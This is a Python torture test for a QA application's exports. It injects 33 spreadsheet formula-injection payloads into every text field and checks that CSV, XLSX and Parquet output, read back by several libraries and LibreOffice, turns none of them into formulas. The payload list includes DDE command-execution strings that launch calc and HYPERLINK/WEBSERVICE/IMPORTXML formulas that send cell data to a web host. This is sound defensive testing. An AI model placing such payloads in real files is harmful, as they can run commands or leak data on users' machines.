"""No text becomes a formula, in any column of any file that is exported; and every text comes back as it was.

`python -m tests.torture.formulas` furnishes an installation for each of 33 payloads, with the payload in every text,
and one more with a harmless word in its place. Whatever the two export must be equal but for the exchange: the same
cells, the same formulas (those that we wrote ourselves), the same texts with the payload for the word. Nothing lists
columns, so a new one is covered as soon as it is written; what the word never reached is told at the end.

Read back by openpyxl, by Python's csv module and by pyarrow; and by LibreOffice, which opens each workbook and CSV and
saves it as a workbook in which formulas show. Exit code 1 where anything differs. `--quick` leaves LibreOffice out.
"""

import argparse
import csv
import io
import json
import re
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import closing
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import BinaryIO, TypedDict
from zoneinfo import ZoneInfo

import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from db.engine import open_store
from db.records import SessionId
from db.revisions import upgrade_store
from db.store import calibration as sessions
from qa_app.workbooks.delimited import disarm
from qa_app.workbooks.text import clean
from qa_app.workflows import exporting, offline_export, packs, raw_export, scorecard_files
from qa_app.workflows.access import list_teams
from qa_app.workflows.exporting import File
from qa_app.workflows.packs import Pack
from tests.office import convert
from tests.qa_app.workbooks.reading import decode
from tests.qa_app.workflows.house import ADMIN, BO, FACILITATOR, MANAGER, NINA, NORTH, UTC_ZONE, VERSION, House
from tests.torture.hostile_house import LABEL, TODAY, build_house

WORD = "Quizzical"
"""Stands for a payload; no wording of ours has it in it."""
PAYLOADS = (
    *("=1+1", "==1+1", "=", "+1+1", "-1+1", "-5", "@SUM(1,1)"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)"),
    *("'=1+1", '"=1+1"', ";=1+1", "|=1+1"),
    *("=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"1")'),
    *('=HYPERLINK("https://example.org/?"&A1,"Click")', '=WEBSERVICE("https://example.org/")'),
    *('=IMPORTXML("https://example.org/","//a")', "{=SUM(A1:A2)}", "#N/A", "#REF!", "_x003D_1+1"),
)
"""Thirty-three: what programs have taken for formulas, with what they skip before one, and what looks like an error."""
ODD = ("_x000D_ and _x0041_x0042_", "a\x0bb\x85c\x1b", "\ufffe and \uffff", "👩‍👩‍👧 مرحبا", "line\r\nline\rline\ttab")
"""What must not stop an export. Lone surrogates no database takes; the plans of workbooks are tested with them."""
_HASH = re.compile("[0-9a-f]{64}")
"""Of what stands elsewhere in the file: another text has another one."""


class _Days(TypedDict):
    start: date
    end: date
    zone: ZoneInfo


_DAYS: _Days = {"start": TODAY, "end": TODAY, "zone": UTC_ZONE}

EXPORTS: Mapping[str, Callable[[House], File]] = {
    "coaching": lambda house: exporting.export_coaching(house.act(MANAGER), NINA.id, **_DAYS),
    "calibration": lambda house: exporting.export_calibration(house.act(ADMIN), _session(house), zone=UTC_ZONE),
    "findings": lambda house: exporting.export_findings(house.act(FACILITATOR), zone=UTC_ZONE),
    "raw": lambda house: _keep_raw(house, raw_export.RawForm.CSV),
    "raw workbook": lambda house: _keep_raw(house, raw_export.RawForm.XLSX),
    "raw parquet": lambda house: _keep_raw(house, raw_export.RawForm.PARQUET),
    "team": lambda house: _keep(
        lambda target: packs.export_team_pack(
            house.act(MANAGER), _team(house), target=target, report=lambda _done, _total: None, **_DAYS
        )
    ),
    "programme": lambda house: _keep(lambda target: packs.export_programme(house.act(MANAGER), target=target, **_DAYS)),
    "scorecard": lambda house: scorecard_files.write_list(house.act(ADMIN), VERSION.id),
    "offline": lambda house: offline_export.export_offline(house.act(BO), zone=UTC_ZONE),
}
"""Everything that is exported: a new export is one line here. Zip files are looked into."""

Place = tuple[str, str]
"""File and cell, such as `raw.csv` and `C7`; sheets are counted, because their names can hold the text. Of Parquet
column and row, such as `comment 7`."""


@dataclass(frozen=True, slots=True)
class Read:
    """What a program finds in the files of one house."""

    texts: Mapping[Place, str]
    formulas: Mapping[Place, str]
    """Formulas and error values."""


@dataclass(slots=True)
class Report:
    """What a run has shown."""

    payloads: int = 0
    cells: int = 0
    columns: set[str] = field(default_factory=set)
    """In which the text stood."""
    problems: list[str] = field(default_factory=list)
    seconds: float = 0

    def __str__(self) -> str:
        """One line."""
        return (
            f"{self.payloads} payloads in {len(self.columns)} text columns of {len(EXPORTS)} exports, {self.cells} "
            f"cells compared in {self.seconds:.0f} s: {len(self.problems)} differ"
        )


def _keep(write: Callable[[BinaryIO], Pack]) -> File:
    """What an export writes to a stream."""
    target = io.BytesIO()
    return File(write(target).name, target.getvalue())


def _keep_raw(house: House, form: raw_export.RawForm) -> File:
    target = io.BytesIO()
    raw_export.export_raw(house.act(MANAGER), target, form=form, **_DAYS)
    name, *_ = raw_export.name_raw(TODAY, TODAY, form)
    return File(name, target.getvalue())


def _team(house: House) -> str:
    return next(team.name for team in list_teams(house.act(ADMIN)) if team.id == NORTH.id)


def _session(house: House) -> SessionId:
    with house.store.read() as tx:
        return sessions.sessions(tx)[0].id


def export_all(text: str, folder: Path) -> dict[str, bytes]:
    """Every file that a house of this text exports, by a name that does not hold the text."""
    folder.mkdir(parents=True)
    with closing(open_store("sqlite://")) as store:
        upgrade_store(store)
        house = build_house(store, folder, text)
        return {name: content for export, make in EXPORTS.items() for name, content in _unpack(export, make(house))}


def read_here(files: Mapping[str, bytes]) -> Read:
    """As openpyxl, the csv module and pyarrow read the files."""
    texts: dict[Place, str] = {}
    formulas: dict[Place, str] = {}
    for name, content in files.items():
        if name.endswith(".csv"):
            texts |= {(name, cell): value for cell, value in _read_csv(content)}
        elif name.endswith(".parquet"):
            texts |= {(name, cell): value for cell, value in _read_parquet(content)}
        else:
            _read_xlsx(name, content, texts, formulas)
    return Read(texts, formulas)


def read_in_office(files: Mapping[str, bytes], folder: Path) -> Read:
    """As LibreOffice reads them, told by the workbooks that it makes of them. Parquet it does not know."""
    files = {name: content for name, content in files.items() if not name.endswith(".parquet")}
    source, target = folder / "source", folder / "target"
    for place in (source, target):
        place.mkdir(parents=True)
    for name, content in files.items():
        (source / name).write_bytes(content)
    workbooks, delimited = (sorted(source.glob(kind)) for kind in ("*.xlsx", "*.csv"))
    convert(workbooks, "xlsx", target)
    convert(delimited, "xlsx", target, "CSV:44,34,76")  # comma, double quote, UTF-8
    texts: dict[Place, str] = {}
    formulas: dict[Place, str] = {}
    for name in files:
        _read_xlsx(name, (target / name).with_suffix(".xlsx").read_bytes(), texts, formulas, encoded=False)
    return Read(texts, formulas)


def compare(payload: str, found: Read, model: Read, report: Report, *, program: str) -> None:
    """Note every cell of `found` that is not that of `model` with the payload in the place of the word."""
    for place in sorted({*found.formulas, *model.formulas}):
        if found.formulas.get(place) != model.formulas.get(place):
            report.problems.append(f"{program}, {payload!r}, {place}: formula {found.formulas.get(place)!r}")
    for place in sorted({*found.texts, *model.texts}):
        text, expected = found.texts.get(place), model.texts.get(place, "")
        report.cells += 1
        if _HASH.fullmatch(expected) and _HASH.fullmatch(text or ""):
            continue
        if WORD in expected:
            report.columns.add(f"{place[0]} {place[1].rstrip('0123456789')}")
        wanted = _find_wanted(place[0], expected, payload)
        if text not in wanted:
            report.problems.append(f"{program}, {payload[:40]!r}, {place}: {text!r:.80}, not {min(wanted)!r:.80}")


def run(payloads: Sequence[str], *, office: bool = True, tell: Callable[[str], None] = lambda _: None) -> Report:
    """Compare the houses of these payloads with that of the word."""
    report = Report()
    started = time.monotonic()
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        files = export_all(WORD, folder / "word")
        model = read_here(files)
        office_model = read_in_office(files, folder / "word") if office else model
        for number, payload in enumerate(payloads):
            place = folder / str(number)
            files = export_all(payload, place)
            compare(payload, read_here(files), model, report, program="here")
            if office:
                compare(payload, read_in_office(files, place), office_model, report, program="LibreOffice")
            report.payloads += 1
            report.seconds = time.monotonic() - started
            tell(f"{report.payloads:3}: {report.seconds:5.0f} s, {payload[:50]!r}, {len(report.problems)} differ")
    return report


def _find_wanted(name: str, expected: str, payload: str) -> set[str]:
    """What may stand in a file of that name where the word stood in `expected`."""
    match name.rpartition(".")[2]:
        case "csv":
            return {disarm(each) for each in _exchange(expected, payload, clean(payload))}
        case "parquet":
            return _exchange(expected, payload, payload)
        case _:
            return _exchange(expected, payload, clean(payload))


def _exchange(expected: str, payload: str, whole: str) -> set[str]:
    """The text with the payload for the word, as it is or with its ends or line ends as the format has them.

    `whole`: the payload as the format holds it.
    """
    forms = {whole, whole.strip(), " ".join(whole.split()), payload, whole[:LABEL], whole[:LABEL].strip()}
    return {expected.replace(WORD, form) for form in forms} | {expected.replace(WORD, form).strip() for form in forms}


def _unpack(export: str, file: File) -> Iterator[tuple[str, bytes]]:
    suffix = file.name.rpartition(".")[2]
    if suffix != "zip":
        yield f"{export}.{suffix}", file.content
        return
    with zipfile.ZipFile(io.BytesIO(file.content)) as packed:
        for number, name in enumerate(packed.namelist(), start=1):
            yield f"{export}-{number}.{name.rpartition('.')[2]}", packed.read(name)


def _read_csv(content: bytes) -> Iterator[tuple[str, str]]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            if value:
                yield f"{get_column_letter(column)}{number}", value


def _read_parquet(content: bytes) -> Iterator[tuple[str, str]]:
    file = pq.ParquetFile(io.BytesIO(content))
    table = file.read()
    for name in table.column_names:
        if pa.types.is_string(table.schema.field(name).type):
            for number, value in enumerate(table.column(name).to_pylist(), start=1):
                if value:
                    yield f"{name} {number}", value
    yield from json.loads(file.metadata.metadata[b"methods"]).items()


def _read_xlsx(
    name: str, content: bytes, texts: dict[Place, str], formulas: dict[Place, str], *, encoded: bool = True
) -> None:
    """`encoded`: whether texts such as `_x000D_` are written as the standard has it; LibreOffice writes them
    bare, and a tab between lines as `_x0001_`."""
    workbook = load_workbook(io.BytesIO(content))
    for number, sheet in enumerate(workbook.worksheets, start=1):
        for row in sheet.iter_rows():
            for cell in row:
                place = name, f"{number}!{cell.coordinate}" if len(workbook.worksheets) > 1 else cell.coordinate
                if cell.data_type in {"f", "e"}:
                    formulas[place] = str(cell.value)
                elif isinstance(cell.value, str):
                    texts[place] = (
                        (decode(cell.value) if encoded else cell.value.replace("_x0001_", "\t"))
                        .replace("\r\n", "\n")
                        .replace("\r", "\n")
                    )


def main(words: Sequence[str] | None = None) -> int:
    """Run, print, and return the exit code."""
    parser = argparse.ArgumentParser(prog="python -m tests.torture.formulas", description=__doc__)
    parser.add_argument("--quick", action="store_true", help="without LibreOffice")
    asked = parser.parse_args(words)
    report = run([*PAYLOADS, *ODD], office=not asked.quick, tell=_tell)
    for line in (str(report), *report.problems[:100]):
        _tell(line)
    return 1 if report.problems else 0


def _tell(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


if __name__ == "__main__":
    sys.exit(main())
